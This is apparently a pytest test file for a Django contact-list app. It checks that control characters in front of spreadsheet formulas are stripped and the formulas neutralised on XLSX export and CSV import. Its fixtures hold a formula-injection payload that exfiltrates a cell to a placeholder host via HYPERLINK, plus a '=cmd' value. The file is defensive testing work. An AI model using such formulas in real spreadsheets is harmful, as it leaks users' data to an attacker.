"""A control character in front of a formula does not smuggle it into an XLSX export: the
cell is cleaned first, then neutralised; and imports drop C0 controls from every cell."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.contacts.importing import import_contacts
from campaigns.models import Contact, ContactList
from campaigns.spreadsheets import xlsx_cell

pytestmark = pytest.mark.django_db

HIDDEN = '\x01=HYPERLINK("http://x/?"&A2,"y")'


def test_a_cell_cleaned_of_its_control_character_is_then_neutralised():
    assert xlsx_cell(HIDDEN) == "'" + HIDDEN[1:]
    assert xlsx_cell("\x02\x03@SUM(1)") == "'@SUM(1)"


def test_list_export_writes_no_formula_behind_a_control_character(staff_client):
    contact_list = ContactList.objects.create(name="hidden formulas")
    Contact.objects.create(contact_list=contact_list, phone="13900000001", name=HIDDEN, variables={HIDDEN: HIDDEN})
    response = staff_client.get(reverse("admin:campaigns_contactlist_export", args=[contact_list.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells].count("f") == 0
    assert "'" + HIDDEN[1:] in [cell.value for cell in cells]


def test_import_drops_control_characters_from_names_variables_and_titles():
    contact_list = ContactList.objects.create(name="controls")
    data = b'phone,name,"no\x01te"\n13900000002,"\x01=cmd",a\x00\x1fb\n'
    import_contacts(contact_list, io.BytesIO(data), "controls.csv")
    contact = Contact.objects.get(contact_list=contact_list)
    assert contact.name == "=cmd"
    assert contact.variables == {"note": "ab"}
